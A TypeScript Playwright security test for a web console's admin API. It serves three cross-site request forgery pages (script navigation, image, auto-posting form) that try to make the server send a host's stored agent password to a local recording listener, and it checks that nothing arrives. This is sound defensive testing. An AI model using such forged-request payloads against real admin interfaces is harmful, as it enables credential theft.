// A web page on another origin, opened by a logged-in administrator, must not get the server to send a
// host's stored agent credentials anywhere: not by a top-level navigation (which carries the SameSite=Lax
// cookie), not by an image, not by a form posted from that page. The page is served from 127.0.0.2 (another
// site to chromium); the address it names is a listener of this spec that records what reaches it.
import { createServer as createHttpServer, type Server } from 'node:http'
import { createServer as createTcpServer, type AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { loginAs } from '../test/support/api-client'
import { ADMIN, BASE_URL, logIn, report } from './support/console'

const HOST = { id: 'ad05'.repeat(8), name: 'hostile-page-agent' }

let listener: ReturnType<typeof createTcpServer>
let received = ''
let listenerPort = 0
let page: Server
let pageOrigin = ''
let hostId = 0

/** The attacker's page for each way in; each ends by loading /done, which the spec waits for. */
function attackPage(kind: string): string {
  const target = `${BASE_URL}/api/2/admin/hosts/test?id=${hostId}&ipaddr=127.0.0.1&port=${listenerPort}&ssl=0`
  const done = `${pageOrigin}/done`
  switch (kind) {
    case 'navigation':
      return `<script>location.href = ${JSON.stringify(target)}</script>`
    case 'image':
      return `<img src="${target}" onerror="location.href='${done}'" onload="location.href='${done}'">`
    default: {
      const [action, query] = target.split('?')
      const fields = [...new URLSearchParams(query)].map(([k, v]) => `<input name="${k}" value="${v}">`).join('')
      return `<form method="post" action="${action}">${fields}</form><script>document.forms[0].submit()</script>`
    }
  }
}

test.beforeAll(async () => {
  listener = createTcpServer((socket) => socket.on('data', (chunk) => (received += chunk.toString('latin1'))))
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  listenerPort = (listener.address() as AddressInfo).port
  page = createHttpServer((request, response) => {
    response.setHeader('Content-Type', 'text/html')
    response.end(request.url === '/done' ? 'done' : attackPage(request.url!.slice(1)))
  })
  await new Promise<void>((resolve) => page.listen(0, '127.0.0.2', resolve))
  pageOrigin = `http://127.0.0.2:${(page.address() as AddressInfo).port}`

  // A host whose agent password an administrator stored.
  await report('02-status-heartbeat', HOST.id, HOST.name)
  const admin = await loginAs(BASE_URL, ADMIN.uname, ADMIN.password)
  const hosts = (await admin.get('/api/2/admin/hosts/list')).json as { records: { id: number; hostname: string }[] }
  hostId = hosts.records.find((h) => h.hostname === HOST.name)!.id
  const stored = await admin.post('/api/2/admin/hosts/update', {
    id: hostId,
    hostname: HOST.name,
    agentuser: 'admin',
    agentpassword: 'stolen-pw'
  })
  expect(stored.status).toBe(200)
})

test.afterAll(async () => {
  await new Promise((resolve) => listener.close(resolve))
  await new Promise((resolve) => page.close(resolve))
})

for (const kind of ['navigation', 'image', 'form']) {
  test(`a page on another origin gets no agent password sent out (${kind})`, async ({ page: browser }) => {
    await logIn(browser)
    await browser.goto(`${pageOrigin}/${kind}`)
    if (kind === 'image') await browser.waitForURL(`${pageOrigin}/done`)
    else await browser.waitForURL((url) => url.origin === BASE_URL)
    // The server answered the request the page made (the form's carries no cookie: SameSite), and nothing
    // reached the address it named.
    if (kind === 'navigation') await expect(browser.locator('body')).toContainText('accepts POST with these arguments')
    expect(received).toBe('')
  })
}
